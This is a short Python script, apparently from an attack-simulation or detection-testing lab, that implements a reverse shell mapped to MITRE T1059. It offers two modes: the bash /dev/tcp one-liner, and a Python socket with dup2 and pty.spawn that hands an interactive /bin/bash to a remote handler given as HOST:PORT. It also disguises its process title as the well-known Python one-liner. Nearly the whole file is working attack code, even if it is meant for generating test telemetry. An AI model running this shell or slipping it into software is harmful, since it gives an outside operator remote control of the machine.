"""Malicious (T1059): a reverse shell to the operator's handler, as the two one-liners everyone copies play it.

``--mode bash``: this process becomes ``bash -c 'exec 5<>/dev/tcp/HOST/PORT; bash -i <&5 >&5 2>&5'`` (the outer bash
holds the socket on fd 5, the interactive bash has it as stdin/stdout/stderr). ``--mode pty``: the python one-liner
that dup2()s the socket onto fds 0-2 and runs ``pty.spawn("/bin/bash")`` (bash's stdio is the pty; the python holds
the socket). Either stays until the handler hangs up or the lab stops it.
"""

from __future__ import annotations

import os
import pty
import signal
import socket
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import lab_shell_home, parser, set_proctitle, setup  # noqa: E402


def bash_one_liner(host: str, port: int) -> list[str]:
    return ["bash", "-c", f"exec 5<>/dev/tcp/{host}/{port}; bash -i <&5 >&5 2>&5"]


def main() -> None:
    p = parser("reverse shell")
    p.add_argument("--mode", choices=("bash", "pty"), required=True)
    p.add_argument("--to", required=True, help="HOST:PORT of the handler")
    args = p.parse_args()
    setup(args)
    host, port = args.to.rsplit(":", 1)
    lab_shell_home()
    if args.mode == "bash":
        os.execv("/bin/bash", bash_one_liner(host, int(port)))
    set_proctitle(["python3", "-c", f"import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));"
                   "[os.dup2(s.fileno(),f)for(f)in(0,1,2)];pty.spawn(\"/bin/bash\")"])
    # The deadline ends pty.spawn's copy loop (it blocks); bash gets SIGHUP when the pty closes.
    signal.signal(signal.SIGALRM, lambda *_: sys.exit(0))
    signal.alarm(max(1, int(args.duration)))
    sock = socket.create_connection((host, int(port)), timeout=10)
    sock.settimeout(None)
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    pty.spawn(["/bin/bash", "-i"])


if __name__ == "__main__":
    main()
